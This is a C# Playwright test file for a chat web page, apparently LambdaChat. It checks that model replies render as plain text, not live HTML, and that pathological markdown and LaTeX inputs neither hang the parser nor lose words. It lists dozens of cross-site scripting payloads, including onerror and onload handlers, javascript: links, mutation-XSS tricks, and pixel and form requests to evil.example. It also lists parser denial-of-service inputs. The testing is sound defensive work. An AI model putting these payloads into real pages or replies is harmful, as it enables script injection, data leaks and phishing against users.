using static Microsoft.Playwright.Assertions;

namespace LambdaChat.FunctionalTests.Page;

/// <summary>Model output is untrusted: it becomes text or one of the elements that the page creates, and never HTML.</summary>
public sealed class HostileTextTests(PageFixture fixture)
{
    private static readonly string[] Attacks =
    [
        "<script>window.hacked = 1</script>",
        "<img src=x onerror=\"window.hacked = 1\">",
        "<svg onload=\"window.hacked = 1\"><animate onbegin=alert(1)></svg>",
        "<iframe src=\"javascript:parent.hacked = 1\"></iframe>",
        "<a href=\"javascript:window.hacked = 1\">click</a>",
        "<style>body { display: none }</style>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<details open ontoggle=window.hacked=1>",
        "[click](javascript:window.hacked=1)",
        "[click]( javascript:window.hacked=1)",
        "[click](JaVaScRiPt:window.hacked=1)",
        "[click](java\tscript:window.hacked=1)",
        "[click](&#106;avascript:window.hacked=1)",
        "[click](data:text/html,<script>window.hacked=1</script>)",
        "[click](vbscript:msgbox(1))",
        "[click](//evil.example/relative)",
        "[click](https://evil.example/ok \"onmouseover=window.hacked=1\")",
        "[a](https://evil.example/\"onmouseover=\"window.hacked=1)",
        "<javascript:window.hacked=1>",
        "<https://evil.example/\"><img/src=x/onerror=window.hacked=1>",
        "![pixel](https://evil.example/pixel.png?secret)",
        "![pixel](data:image/svg+xml,<svg onload=window.hacked=1>)",
        "[![nested](https://evil.example/a.png)](javascript:window.hacked=1)",
        "[ref]\n\n[ref]: javascript:window.hacked=1",
        "`<img src=x onerror=window.hacked=1>`",
        "```html\n<script>window.hacked = 1</script>\n```",
        "```\"><img src=x onerror=window.hacked=1>\ncode\n```",
        "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:window.hacked=1) | <script>window.hacked=1</script> |",
        "# <img src=x onerror=window.hacked=1>",
        "- <script>window.hacked=1</script>\n  > <img src=x onerror=window.hacked=1>",
        "$$<img src=x onerror=window.hacked=1>$$",
        "\\(<img src=x onerror=window.hacked=1>\\)",
        "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} <%= 1 %>",
        "https://evil.example/\u202Egpj.exe and http://user:pass@evil.example/",
        "</div></article><script>window.hacked=1</script>",
        "\0<scr\0ipt>window.hacked=1</script>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
        "<form action=https://evil.example><input name=key><button>Enter your key</button></form>",
        "$\\href{javascript:window.hacked=1}{x}$",
        "$\\url{javascript:window.hacked=1}$ $\\includegraphics{https://evil.example/pixel.png?secret}$",
        "$\\htmlStyle{background:url(https://evil.example/)}{x}$ $\\style{color:red}{x}$ $\\class{empty}{x}$ $\\id{sidebar}{x}$ " +
            "$\\data{key=1}{x}$",
        "$$\\text{<img src=x onerror=window.hacked=1>}$$",
        "$\\color{url(https://evil.example/)}{x}$ $\\label{a}\\ref{a}$ $\\cancelto{1}{x}$",
        "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\text}{\\href{https://evil.example}}\\text{x}$",
        "```\"onclick=window.hacked=1 <script>\nlet a = '<script>window.hacked = 1</script>';\n```",
        "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```js<b>\nx\n```",
        "a[^1] b[^__proto__]\n\n[^1]: <script>window.hacked=1</script>\n[^__proto__]: [x](javascript:window.hacked=1)",
        "www.evil.example/<script> mailto:x@evil.example javascript:x@evil.example",
        "<object data=https://evil.example></object><embed src=https://evil.example><link rel=stylesheet href=https://evil.example>",
    ];

    // Inputs that take minutes in a quadratic parser, and longer in one that backtracks.
    private static readonly string[] Bombs =
    [
        Repeat("*", 200_000),
        Repeat("[", 200_000),
        Repeat("`", 200_001),
        Repeat(">", 50_000),
        Repeat("*a ", 70_000),
        Repeat("**a *b ", 30_000),
        Repeat("[a](", 50_000),
        Repeat("![", 100_000),
        Repeat("- ", 50_000),
        Repeat("`a ``b ", 30_000),
        Repeat("$a ", 70_000),
        Repeat("\\(", 100_000),
        Repeat("|", 60_000) + "\n" + Repeat("|-", 60_000),
        Repeat("_a", 100_000),
        Repeat("https://a", 25_000),
        Repeat("www.a@", 30_000),
        Repeat("\\(a", 60_000) + Repeat("\\[a", 60_000),
        Repeat("\\(", 100_000) + Repeat("a", 5_001) + "\\)",
        Repeat("[\\(a", 30_000),
        "$$" + Repeat("{", 4_000) + "a" + Repeat("}", 900) + "$$",
        "$$\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{xxxx}\\a\\a\\a$$",
        Repeat("$" + Repeat("\\frac{a}{", 150) + "a" + Repeat("}", 150) + "$ ", 50),
        "```js\n" + Repeat("const a = `${", 20_000) + "\n```",
        "```html\n" + Repeat("<a", 60_000) + "\n```",
        Repeat("- a\n  ", 20_000),
        Repeat("https://a/b" + Repeat(")", 3_900) + " ", 500),
    ];

    // Inputs with words that are not shown: info strings, definitions, and blocks that are nested more than 100 levels deep.
    private static readonly string[] HiddenBombs =
    [
        "````" + Repeat("x", 100_000) + "\n" + Repeat("`", 100_000),
        Repeat("[^a]", 30_000) + "\n\n[^a]: a",
        Repeat("[^a]", 20_000) + "\n\n[^a]: a",
        Repeat("[a]: /a\n", 12_000),
        Repeat("> - ", 20_000) + "a",
        Repeat("[a]", 30_000) + "\n\n[a]: /a",
        "[^a]: a\n\n" + Repeat("[^", 49_900),
        "[^a]: a\n\n" + Repeat("^[a]", 24_000),
    ];

    // Per input; a slow parser fails the test instead of blocking the run.
    private static readonly TimeSpan Timeout = TimeSpan.FromMinutes(3);

    [Fact]
    public async Task Reply_OfAttacks_StaysText()
    {
        await using var page = await fixture.OpenAsync();
        var foreign = new List<string>();
        page.Page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(fixture.Url.ToString(), StringComparison.Ordinal))
            {
                foreign.Add(request.Url);
            }
        };
        await page.SayAsync(string.Join("\n\n", Attacks), string.Join("\n\n", Attacks));

        await page.AskAsync(Attacks[0]);
        await page.Thinking.Locator("summary").ClickAsync();

        await Expect(page.Answer).ToContainTextAsync("<script>window.hacked = 1</script>");
        await page.Page.WaitForFunctionAsync(
            "() => [...document.querySelectorAll('.math')].every((formula) => formula.matches(':has(math), .invalid'))");
        await Expect(page.Thinking).ToContainTextAsync("<img src=x onerror=\"window.hacked = 1\">");
        Assert.Equal("undefined", await page.Page.EvaluateAsync<string>("typeof window.hacked"));
        Assert.Empty(foreign);
        Assert.Equal("[]", await FindForbiddenAsync(page));
        foreach (var link in await page.Page.Locator("article a").AllAsync())
        {
            Assert.Equal("noopener noreferrer nofollow", await link.GetAttributeAsync("rel"));
            Assert.Equal("_blank", await link.GetAttributeAsync("target"));
            Assert.Matches("^(https?|mailto):", await link.GetAttributeAsync("href"));
        }

        Assert.Empty(page.Problems);
    }

    [Fact]
    public async Task Text_OfBombs_IsDrawn_AndKeepsItsWords()
    {
        await using var page = await fixture.OpenAsync();

        foreach (var bomb in Bombs)
        {
            Assert.Equal(string.Concat(bomb.Where(char.IsLetter)), await DrawAsync(page, bomb));
        }

        foreach (var bomb in HiddenBombs)
        {
            Assert.NotNull(await DrawAsync(page, bomb));
        }
    }

    // The parser itself: drawing takes more time.
    [Theory]
    [InlineData("[^", "[~")]
    [InlineData("^[a]", "~[a]")]
    public async Task Footnotes_WithoutADefinition_TakeTheTimeOfOtherText(string footnote, string text)
    {
        await using var page = await fixture.OpenAsync();

        var ratio = await page.Page.EvaluateAsync<double>(
            """
            async ([footnote, text]) => {
              const { parseWhole } = await import("/assets/markdown.js");
              const time = (part) => {
                const start = performance.now();
                parseWhole(`[^x]: y\n\n${part.repeat(10_000)}`);
                return performance.now() - start;
              };
              const least = [Infinity, Infinity]; // Of ten alternating pairs: another process can interrupt some of them.
              for (let i = 0; i < 10; i++) {
                [footnote, text].forEach((part, j) => (least[j] = Math.min(least[j], time(part))));
              }
              return least[0] / least[1];
            }
            """,
            new[] { footnote, text });

        Assert.InRange(ratio, 0, 6); // A search to the end of the text makes it 16 and more.
    }

    private static Task<string> DrawAsync(ChatPage page, string text) => page.Page.EvaluateAsync<string>(
        """
        async (text) => {
          const { renderMarkdown } = await import("/assets/render.js");
          const drawn = document.createElement("div");
          renderMarkdown(drawn, text);
          return drawn.textContent.replace(/[^a-z]/g, "");
        }
        """,
        text).WaitAsync(Timeout, TestContext.Current.CancellationToken);

    private static string Repeat(string text, int times) => string.Concat(Enumerable.Repeat(text, times));

    // Elements and attributes that the page never creates in a message.
    private static Task<string> FindForbiddenAsync(ChatPage page) => page.Page.EvaluateAsync<string>("""
        () => {
          const tags = ("article,details,summary,div,p,h3,h4,h5,h6,ul,ol,li,blockquote,hr,pre,code,table,thead,tbody,tr,th,td,a,em,strong,del,span,button,svg,path,input,br,sup,section,"
            + "math,semantics,annotation,mrow,mi,mn,mo,ms,mtext,mspace,mfrac,msqrt,mroot,mstyle,mpadded,mphantom,msub,msup,msubsup,munder,mover,munderover,mtable,mtr,mtd,menclose").split(",");
          const found = [];
          for (const element of document.querySelectorAll("article.assistant, article.assistant *")) {
            if (!tags.includes(element.localName)) found.push(element.localName);
            for (const { name, value } of element.attributes) {
              if (name.startsWith("on") || name === "src" || name === "style" || (name === "href" && !/^(https?|mailto):/.test(value))) found.push(`${element.localName} ${name}=${value}`);
            }
          }
          return JSON.stringify(found);
        }
        """);
}
